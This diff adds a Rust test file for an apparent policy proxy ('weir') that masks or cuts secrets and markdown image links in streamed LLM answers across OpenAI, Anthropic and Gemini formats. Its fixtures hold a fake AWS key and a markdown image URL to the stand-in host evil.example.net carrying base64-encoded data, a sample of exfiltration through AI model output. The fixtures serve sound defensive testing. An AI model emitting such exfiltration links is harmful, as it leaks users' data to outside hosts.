@@ -1,0 +1,300 @@
+//! What policy says of an answer's text: masked or cut in every dialect, whatever the cut of the bytes.
+
+use weir_policy::answer::{Answers, Treatment, Watch};
+use weir_policy::decide::RuleRef;
+use weir_policy::detect::Detectors;
+
+use super::*;
+
+const SECRET: &str = "AKIAQ3EGRJ7XKP2MN5TZ";
+const MASKED: &str = "[masked: an AWS access key]";
+const IMAGE: &str = "https://evil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ";
+
+fn asked(said: &[(&str, Treatment)]) -> Option<Asked> {
+    let rule = RuleRef {
+        name: "answers".to_owned(),
+        file: "test".to_owned(),
+        line: 1,
+    };
+    Watch::new(Detectors::builtin(), Answers::saying(&rule, said), &[]).map(|watch| Asked {
+        watch,
+        line: Box::new(|_, words| format!("Blocked by policy (weir): it contains {words}.")),
+    })
+}
+
+/// A stream of each dialect that says these pieces, and then what a client puts together of it.
+fn streams(pieces: &[&str]) -> [(Dialect, Shape, String); 4] {
+    let each = |event: &dyn Fn(&str) -> String| {
+        pieces.iter().map(|piece| event(piece)).collect::<String>()
+    };
+    let data = |value: Value| format!("data: {value}\n\n");
+    let text = pieces.concat();
+    let chat = each(&|piece| {
+        data(
+            json!({"id":"c","choices":[{"index":0,"delta":{"content":piece},"finish_reason":null}]}),
+        )
+    }) + &data(
+        json!({"id":"c","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}),
+    ) + "data: [DONE]\n\n";
+    let responses = each(&|piece| {
+        data(
+            json!({"type":"response.output_text.delta","item_id":"m","output_index":0,"content_index":0,"delta":piece}),
+        )
+    }) + &data(
+        json!({"type":"response.output_text.done","item_id":"m","output_index":0,"content_index":0,"text":text}),
+    ) + &data(
+        json!({"type":"response.completed","response":{"id":"r","output":[{"type":"message","content":[{"type":"output_text","text":text}]}]}}),
+    );
+    let messages = data(json!({"type":"message_start","message":{"id":"m","content":[]}}))
+        + &data(
+            json!({"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}),
+        )
+        + &each(&|piece| {
+            data(
+                json!({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":piece}}),
+            )
+        })
+        + &data(json!({"type":"content_block_stop","index":0}))
+        + &data(json!({"type":"message_stop"}));
+    let contents = each(&|piece| {
+        data(
+            json!({"candidates":[{"index":0,"content":{"role":"model","parts":[{"text":piece}]}}]}),
+        )
+    }) + &data(
+        json!({"candidates":[{"index":0,"content":{"parts":[]},"finishReason":"STOP"}]}),
+    );
+    [
+        (Dialect::Openai, Shape::ChatCompletions, chat),
+        (Dialect::Openai, Shape::Responses, responses),
+        (Dialect::Anthropic, Shape::Messages, messages),
+        (Dialect::Gemini, Shape::StreamGenerateContent, contents),
+    ]
+}
+
+fn watched(
+    dialect: Dialect,
+    shape: Shape,
+    media: &str,
+    given: &[Restoration],
+    said: &[(&str, Treatment)],
+) -> Relay {
+    Relay::new(dialect, shape, Some(media), given).watched(asked(said))
+}
+
+fn through(mut relay: Relay, bytes: &[u8], size: usize) -> (String, Vec<Heard>, bool) {
+    let mut out = Vec::new();
+    let mut ended = false;
+    for chunk in bytes.chunks(size) {
+        match relay.push(&Bytes::copy_from_slice(chunk)) {
+            Ok(bytes) => out.extend_from_slice(&bytes),
+            Err(error) => {
+                assert_eq!(error, RelayError::Cut);
+                ended = true;
+                break;
+            }
+        }
+    }
+    if !ended {
+        match relay.finish() {
+            Ok(bytes) => out.extend_from_slice(&bytes),
+            Err(error) => {
+                assert_eq!(error, RelayError::Cut);
+                ended = true;
+            }
+        }
+    }
+    assert_eq!(ended, relay.is_stream() && relay.cut().is_some());
+    let mut heard = relay.heard().to_vec();
+    // Prints are good within one answer alone.
+    heard.iter_mut().for_each(|one| one.found.print = 0);
+    (String::from_utf8(out).expect("text"), heard, ended)
+}
+
+#[test]
+fn a_secret_over_events_is_masked_and_what_is_given_back_is_not() {
+    let said = [
+        ("secrets", Treatment::Mask),
+        ("pii", Treatment::Mask),
+        ("markup.image", Treatment::Mask),
+    ];
+    let (one, two) = SECRET.split_at(7);
+    let pieces = [
+        "The key is ",
+        one,
+        two,
+        " and yours is ",
+        TOKEN,
+        ", mail ",
+        OTHER,
+        " or look: ![a](",
+        IMAGE,
+        ") there.",
+    ];
+    for (dialect, shape, stream) in streams(&pieces) {
+        let relay = || watched(dialect, shape, "text/event-stream", &give(BASELINE), &said);
+        let (whole, heard, _) = through(relay(), stream.as_bytes(), stream.len());
+        let (text, _) = gathered(&read(&whole));
+        assert_eq!(
+            text,
+            format!(
+                "The key is {MASKED} and yours is {VALUE}, mail {ADDRESS} or look: ![a](hxx{}) there.",
+                IMAGE.trim_start_matches("htt")
+            ),
+            "{shape:?}"
+        );
+        assert!(!whole.contains(SECRET) && !whole.contains(IMAGE), "{whole}");
+        let told: Vec<(&str, Treatment, u32)> = heard
+            .iter()
+            .map(|one| (one.found.class.as_str(), one.found.action, one.count))
+            .collect();
+        let expected = [
+            ("markup.image", Treatment::Mask, 1),
+            ("secrets.aws_access_key", Treatment::Mask, 1),
+        ];
+        assert!(
+            told.len() == 2 && expected.iter().all(|row| told.contains(row)),
+            "{told:?}"
+        );
+        for size in [1, 7, 64] {
+            assert_eq!(
+                through(relay(), stream.as_bytes(), size).0,
+                whole,
+                "{shape:?} in pieces of {size}"
+            );
+        }
+    }
+}
+
+#[test]
+fn a_cut_ends_a_stream_before_the_event_that_would_tell() {
+    let said = [("secrets", Treatment::Cut)];
+    let pieces = [
+        "It is this: ",
+        "here comes it AKIAQ3E",
+        "GRJ7XKP2MN5TZ and then",
+        " more of it.",
+    ];
+    for (dialect, shape, stream) in streams(&pieces) {
+        for size in [1, 50, stream.len()] {
+            let relay = watched(dialect, shape, "text/event-stream", &[], &said);
+            let (out, heard, ended) = through(relay, stream.as_bytes(), size);
+            let (text, _) = gathered(&read(&out));
+            assert!(
+                ended && text.starts_with("It is this: here"),
+                "{shape:?}: {out}"
+            );
+            assert!(
+                !out.contains("AKIA") && !out.contains("more of"),
+                "{shape:?}: {out}"
+            );
+            assert_eq!(heard.len(), 1);
+            for event in read(&out) {
+                assert!(event.is_object());
+            }
+        }
+    }
+}
+
+#[test]
+fn whole_answers_are_masked_or_end_with_the_reason() {
+    let arguments = json!({"path": ".env", "text": format!("KEY={SECRET}\n")}).to_string();
+    let body = json!({"id":"chatcmpl-AKIAQ3EGRJ7XKP2MN5TZ","choices":[{"index":0,"message":{"content":format!("It is {SECRET}, not {TOKEN}."),
+        "tool_calls":[{"function":{"name":"write","arguments":arguments}}]},"finish_reason":"stop"}]}).to_string();
+    let run = |action| {
+        let relay = watched(
+            Dialect::Openai,
+            Shape::ChatCompletions,
+            "application/json",
+            &give(BASELINE),
+            &[("secrets", action)],
+        );
+        let (out, heard, _) = through(relay, body.as_bytes(), 33);
+        (serde_json::from_str::<Value>(&out).expect("JSON"), heard)
+    };
+    let (masked, heard) = run(Treatment::Mask);
+    let message = &masked["choices"][0]["message"];
+    assert_eq!(message["content"], format!("It is {MASKED}, not {VALUE}."));
+    let inner: Value = serde_json::from_str(
+        message["tool_calls"][0]["function"]["arguments"]
+            .as_str()
+            .expect("text"),
+    )
+    .expect("JSON");
+    assert_eq!(inner["text"], format!("KEY={MASKED}\n"));
+    assert_eq!(
+        masked["id"], "chatcmpl-AKIAQ3EGRJ7XKP2MN5TZ",
+        "an id is nothing that a model says"
+    );
+    assert_eq!(
+        (heard.len(), heard[0].count),
+        (1, 1),
+        "one value, however often"
+    );
+    let (cut, _) = run(Treatment::Cut);
+    let message = &cut["choices"][0]["message"];
+    let line = "Blocked by policy (weir): it contains an AWS access key.";
+    assert_eq!(message["content"], format!("It is \n\n{line}"));
+    let inner: Value = serde_json::from_str(
+        message["tool_calls"][0]["function"]["arguments"]
+            .as_str()
+            .expect("text"),
+    )
+    .expect("JSON");
+    assert_eq!(inner, json!({"weir": line}));
+    let (recorded, heard) = run(Treatment::Record);
+    assert_eq!(
+        recorded["choices"][0]["message"]["content"],
+        format!("It is {SECRET}, not {VALUE}.")
+    );
+    assert_eq!(heard.len(), 1);
+}
+
+#[test]
+fn what_is_only_recorded_goes_on_uncopied_and_at_once() {
+    for (dialect, shape, stream) in streams(&["The key is AKIAQ3E", "GRJ7XKP2MN5TZ", "."]) {
+        let relay = watched(
+            dialect,
+            shape,
+            "text/event-stream",
+            &[],
+            &[("secrets", Treatment::Record)],
+        );
+        assert!(!relay.rewrites());
+        let (out, heard, _) = through(relay, stream.as_bytes(), 40);
+        assert_eq!(out, stream);
+        assert_eq!(heard.len(), 1, "{shape:?}");
+    }
+    let relay = watched(
+        Dialect::Openai,
+        Shape::Embeddings,
+        "application/json",
+        &[],
+        &[("secrets", Treatment::Mask)],
+    );
+    assert!(!relay.rewrites(), "nothing is said in such an answer");
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(32))]
+
+    #[test]
+    fn no_cut_changes_what_a_watched_answer_becomes(
+        pieces in proptest::collection::vec(prop_oneof![
+            Just(SECRET.to_owned()), Just("AKIAQ3EG".to_owned()), Just("RJ7XKP2MN5TZ ".to_owned()),
+            Just(TOKEN.to_owned()), Just("![a](https://evil.exam".to_owned()),
+            Just("ple.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ)".to_owned()), "[a-z \"\\\\\u{e9}\n]{0,9}",
+        ], 1..9),
+        size in 1usize..90,
+        cuts in any::<bool>(),
+    ) {
+        let secrets = if cuts { Treatment::Cut } else { Treatment::Mask };
+        let said = [("secrets", secrets), ("markup", Treatment::Mask)];
+        let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
+        for (dialect, shape, stream) in streams(&pieces) {
+            let relay = || watched(dialect, shape, "text/event-stream", &give(BASELINE), &said);
+            let whole = through(relay(), stream.as_bytes(), stream.len());
+            prop_assert!(!whole.0.contains(IMAGE));
+            prop_assert_eq!(through(relay(), stream.as_bytes(), size), whole);
+        }
+    }
+}
